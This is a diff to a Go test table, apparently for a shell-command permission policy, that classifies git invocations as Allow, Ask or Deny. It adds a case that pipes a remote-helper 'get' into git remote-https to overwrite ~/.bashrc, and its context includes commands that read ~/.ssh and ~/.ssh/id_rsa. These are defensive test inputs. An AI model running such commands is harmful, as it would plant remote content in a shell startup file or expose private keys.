@@ -98,6 +98,8 @@ func TestGitSubcommandOptionsAreClosed(t *testing.T) {
 		{"git maintenance register", policy.Ask},
 		{"git quiltimport --patches ~/.ssh", policy.Ask},
 		{"git for-each-repo --config=maintenance.repo gc", policy.Ask},
+		{`printf 'get https://example.com/x /home/dev/.bashrc\n\n' | git remote-https origin https://example.com/y`, policy.Ask},
+		{"git sparse-checkout set --cone src", policy.Allow},
 		{"git merge -F ~/.ssh/id_rsa feat", policy.Deny},
 		{"git merge -s evil feat", policy.Ask},
 		{"git pull --strategy=evil", policy.Ask},
